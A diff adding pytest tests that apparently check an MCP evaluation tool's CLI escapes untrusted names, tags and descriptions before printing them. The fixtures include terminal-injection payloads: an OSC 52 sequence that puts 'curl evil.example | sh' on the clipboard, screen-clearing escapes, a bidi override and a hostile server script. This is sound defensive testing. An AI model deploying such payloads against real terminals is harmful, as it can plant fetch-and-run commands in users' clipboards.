@@ -1,0 +1,81 @@
+"""Untrusted text printed to the user's terminal (``mcp_gym._terminal``): a task file's tags in ``mcp-gym eval``'s
+summary, a third-party server's names and descriptions in ``mcp-gym inspect``. Rich
+markup in them must stay text (``[/]`` once ended the eval with a traceback after every episode ran) and terminal
+escape sequences must arrive escaped (rich passes ESC through: an OSC 52 sequence sets the clipboard in terminals
+that allow it, ``ESC[2J`` clears the screen, cursor moves rewrite the lines above)."""
+
+from __future__ import annotations
+
+import json
+import sys
+from pathlib import Path
+
+import pytest
+
+from mcp_gym.cli import main
+
+CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: 'curl evil.example | sh' to the clipboard
+CLEAR = "\x1b[2J\x1b[H"
+BIDI = "\u202e"  # right-to-left override
+
+
+def _no_escape_reached(text: str) -> None:
+    assert "\x1b" not in text and BIDI not in text, repr(text[:400])
+
+
+def test_a_task_file_s_tags_are_plain_text_in_the_eval_summary(tmp_path: Path, capsys: pytest.CaptureFixture[str],
+                                                                monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("COLUMNS", "250")  # one line per row: the tags are read back whole
+    tasks = tmp_path / "tasks.jsonl"
+    tags = ["[/]", "[link=https://evil.example]docs[/link]", f"clip{CLIPBOARD}board", f"cls{CLEAR}", f"rtl{BIDI}x"]
+    tasks.write_text(json.dumps({"id": "t1", "prompt": "Say hi", "answer": "hi", "tags": tags}) + "\n")
+    server = f'+env.servers.c="{sys.executable} -m mcp_gym.servers.counter"'
+    code = main(["eval", "env=custom", server, f"env.tasks={tasks}", "policy=oracle", "samples=1",
+                 f"out={tmp_path / 'out'}", "launcher.progress=false", "plots=false"])
+    out = capsys.readouterr().out
+    assert code == 0, out[-2000:]
+    _no_escape_reached(out)
+    assert "tag [/]" in out and "[link=https://evil.example]docs[/link]" in out  # shown as written, not obeyed
+    assert "\\x1b]52;c;" in out and "\\u202e" in out
+
+
+HOSTILE_SERVER = '''
+import sys
+from mcp.server.mcpserver import MCPServer
+
+server = MCPServer("evil[/]" + "\\x1b[2J", version="1[/bold]")
+
+@server.tool(name="read[/]file", description="Reads a file.\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07[link=https://evil.example]x[/link]")
+def read(path: str) -> str:
+    return path
+
+server.run()
+'''
+
+
+def test_inspect_shows_a_hostile_server_s_names_as_plain_text(tmp_path: Path, capsys: pytest.CaptureFixture[str],
+                                                             monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("COLUMNS", "250")
+    script = tmp_path / "evil_server.py"
+    script.write_text(HOSTILE_SERVER)
+    code = main(["inspect", f"{sys.executable} {script}", "--timeout", "30"])
+    out = capsys.readouterr().out
+    assert code == 0, out[-2000:]
+    _no_escape_reached(out)
+    assert "evil[/]\\x1b[2J" in out and "read[/]file" in out and "\\x1b]52;c;" in out
+
+
+def test_mcpmark_import_prints_a_checkout_s_names_escaped(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """A category folder named with an escape sequence (git stores any byte but ``/`` and NUL in a name)."""
+    checkout = tmp_path / "mcpmark"
+    for category in (f"notes{CLEAR}", f"clip{CLIPBOARD.replace('/', '_')}"):
+        folder = checkout / "tasks" / "filesystem" / category / "shout"
+        folder.mkdir(parents=True)
+        (folder / "description.md").write_text("Shout.\n")
+        (folder / "verify.py").write_text("import sys\n")
+    (checkout / "test_environments" / f"notes{CLEAR}").mkdir(parents=True)  # the other one is skipped
+    code = main(["tasks", "import", "mcpmark", str(checkout), "--out", str(tmp_path / "bench")])
+    captured = capsys.readouterr()
+    assert code == 0
+    _no_escape_reached(captured.out + captured.err)
+    assert "skipped tasks/filesystem/clip\\x1b]52;c;" in captured.out and "notes\\x1b[2J\\x1b[H 1" in captured.out
